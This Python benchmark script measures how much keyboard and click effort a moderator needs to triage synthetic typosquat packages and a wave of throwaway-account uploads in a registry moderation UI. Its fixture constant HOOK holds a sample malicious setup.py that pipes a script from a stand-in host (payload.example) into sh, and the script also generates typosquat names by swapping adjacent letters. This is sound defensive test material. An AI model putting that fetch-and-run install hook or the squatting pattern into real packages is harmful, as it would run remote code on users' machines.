"""Triage effort benchmark: how many key presses, clicks and page loads a moderator
needs to record a verdict on 50 lone items and one wave, in headless Chromium against a
real server (SQLite, in a temporary directory).

The stream: an early event (history for the windows), three quiet hours, 50 lone squats
of popular projects (one adjacent swap each, a new account each, 20 minutes apart: a
trickle, not a burst), then a wave of 12 throwaway accounts (50 ms apart) each creating
a copy of one project with an install hook. The script then works the queue as a
moderator would, with the keyboard: the selected row is judged with one key (m) and the
page comes back with the next row selected; a wave row is opened with one key (o),
judged on its page (a verdict, Review, Confirm: three clicks), and the Queue link brings
the filtered queue back.

Figures printed (stdout), one per line: lone items judged, key presses per lone item
(goal: at most 2), page loads per lone item, the wave's clicks and page loads, and the
wall time. Usage: ``.venv/bin/python bench/bench_triage.py [--lone 50] [--wave 12]``
"""

from __future__ import annotations

import argparse
import shutil
import sys
import tempfile
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from service.db import make_engine, migrate, session_factory  # noqa: E402
from service.tokens import create_token  # noqa: E402

HOOK = ("import os\nfrom setuptools import setup\n"
        "os.system('curl -s http://payload.example/x.sh | sh')\nsetup(name='demo')\n")


def figure(name: str, value: Any) -> None:
    print(f"{name}: {value}", flush=True)


def popular(count: int) -> list[str]:
    lines = (REPO / "data" / "popular.tsv").read_text(encoding="utf-8").splitlines()[1:]
    names = [line.split("\t")[1] for line in lines]
    return [n for n in names if len(n) >= 6 and n.isalpha()][:count]


def swap(name: str) -> str:
    i = len(name) // 2
    return name[:i - 1] + name[i] + name[i - 1] + name[i + 1:]


def stream(lone: int, wave: int) -> list[dict[str, Any]]:
    # Lone squats 20 minutes apart: a registry's ordinary trickle, not a burst of them.
    gap = 1200.0
    clock = [datetime.now(UTC) - timedelta(seconds=3 * 3600 + (lone + 1) * gap)]

    def ts(step: float = gap) -> str:
        clock[0] += timedelta(seconds=step)
        return clock[0].strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    uid = lambda p: f"{p}-{uuid.uuid4().hex[:10]}"  # noqa: E731
    events = [{"id": uid("a"), "ts": ts(), "type": "account.created",
               "account": {"username": "early-bird"}}]
    ts(3 * 3600.0)  # the stream's history reaches an hour past the wave's longest look-back
    for target in popular(lone):
        events.append({"id": uid("p"), "ts": ts(), "type": "project.created",
                       "account": {"username": uid("user")}, "project": {"name": swap(target)}})
    for i in range(wave):
        user = f"wv{i}x{uuid.uuid4().hex[:4]}"
        events.append({"id": uid("a"), "ts": ts(0.05), "type": "account.created",
                       "account": {"username": user, "email": f"{user}@mailbox.example"}})
        events.append({"id": uid("p"), "ts": ts(0.05), "type": "project.created",
                       "account": {"username": user},
                       "project": {"name": f"reqeusts-w{i}", "files": {"setup.py": HOOK}}})
    return events


class Counter:
    def __init__(self, driver: Any) -> None:
        self.driver, self.keys, self.clicks, self.loads = driver, 0, 0, 0

    def _mark(self) -> None:
        self.driver.execute_script("window.__bench = 1")

    def _wait(self) -> None:
        from selenium.webdriver.support.wait import WebDriverWait

        WebDriverWait(self.driver, 30).until(lambda d: d.execute_script(
            "return window.__bench === undefined && document.readyState === 'complete'"))
        self.loads += 1

    def key(self, key: str, loads: bool) -> None:
        from selenium.webdriver.common.action_chains import ActionChains

        if loads:
            self._mark()
        ActionChains(self.driver).send_keys(key).perform()
        self.keys += 1
        if loads:
            self._wait()

    def click(self, element: Any, loads: bool) -> None:
        if loads:
            self._mark()
        element.click()
        self.clicks += 1
        if loads:
            self._wait()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lone", type=int, default=50)
    parser.add_argument("--wave", type=int, default=12)
    args = parser.parse_args()
    if not (shutil.which("chromium") and shutil.which("chromedriver")):
        sys.exit("bench_triage: chromium and chromedriver are needed")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    tmp = Path(tempfile.mkdtemp(prefix="warden-bench-triage-"))
    url_db = f"sqlite:///{tmp / 'warden.db'}"
    engine = make_engine(url_db)
    migrate(engine)
    with session_factory(engine)() as session:
        tokens = {r: create_token(session, r, f"bench-{r}") for r in ("registry", "moderator")}
    engine.dispose()
    from warden.moderation_demo import cold_start_policy, start_service

    base, server, thread = start_service(url_db, str(cold_start_policy(tmp / "overlay.toml")))
    options = webdriver.ChromeOptions()
    options.binary_location = shutil.which("chromium") or ""
    for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                f"--user-data-dir={tmp / 'chrome'}", "--window-size=1280,900"):
        options.add_argument(arg)
    driver = webdriver.Chrome(service=Service(shutil.which("chromedriver") or ""),
                              options=options)
    try:
        events = stream(args.lone, args.wave)
        with httpx.Client(base_url=base, timeout=120,
                          headers={"Authorization": f"Bearer {tokens['registry']}"}) as c:
            for start in range(0, len(events), 100):
                c.post("/v1/events", json=events[start:start + 100]).raise_for_status()
        driver.get(base + "/ui/login")
        driver.find_element(By.ID, "token").send_keys(tokens["moderator"])
        driver.find_element(By.ID, "login").click()
        counter = Counter(driver)
        driver.get(base + "/ui/queue?sort=time")
        from selenium.webdriver.support.wait import WebDriverWait

        # triage.js selects the first row after load; an empty queue has no rows at all.
        WebDriverWait(driver, 30).until(lambda d: d.find_elements(
            By.CSS_SELECTOR, "#queue tr.selected") or not d.find_elements(
            By.CSS_SELECTOR, "#queue tbody tr"))
        started, lone_done, waves = time.perf_counter(), 0, []
        wave_effort = {"keys": 0, "clicks": 0, "loads": 0}
        while True:
            rows = driver.find_elements(By.CSS_SELECTOR, "#queue tr.selected")
            if not rows:
                break
            row = rows[0]
            if row.get_attribute("data-campaign"):
                before = (counter.keys, counter.clicks, counter.loads)
                size = row.find_element(By.CLASS_NAME, "wave-size").text
                waves.append(f"{row.get_attribute('data-campaign')} ({size})")
                counter.key("o", loads=True)
                counter.click(driver.find_element(
                    By.CSS_SELECTOR, "input[name=verdict][value=malicious]"), loads=False)
                counter.click(driver.find_element(By.ID, "review-campaign-verdict"), True)
                counter.click(driver.find_element(By.ID, "confirm-wave"), loads=True)
                counter.click(driver.find_element(By.ID, "queue-link"), loads=True)
                for k, b in zip(("keys", "clicks", "loads"), before, strict=True):
                    wave_effort[k] += getattr(counter, k) - b
                continue
            counter.key("m", loads=True)
            lone_done += 1
        elapsed = time.perf_counter() - started
    finally:
        driver.quit()
        server.should_exit = True
        thread.join(timeout=30)
        shutil.rmtree(tmp, ignore_errors=True)
    lone_keys = counter.keys - wave_effort["keys"]
    lone_loads = counter.loads - wave_effort["loads"]
    figure("events sent", len(events))
    figure("lone items judged", lone_done)
    figure("waves judged", f"{len(waves)} (one row each in the queue: {', '.join(waves)})")
    figure("key presses per lone item (goal <= 2)", f"{lone_keys / max(1, lone_done):.2f}")
    figure("page loads per lone item", f"{lone_loads / max(1, lone_done):.2f}")
    figure("wave: key presses, clicks, page loads",
           f"{wave_effort['keys']}, {wave_effort['clicks']}, {wave_effort['loads']}")
    figure("total key presses / clicks / page loads",
           f"{counter.keys} / {counter.clicks} / {counter.loads}")
    figure("wall time (s)", f"{elapsed:.1f}")


if __name__ == "__main__":
    main()
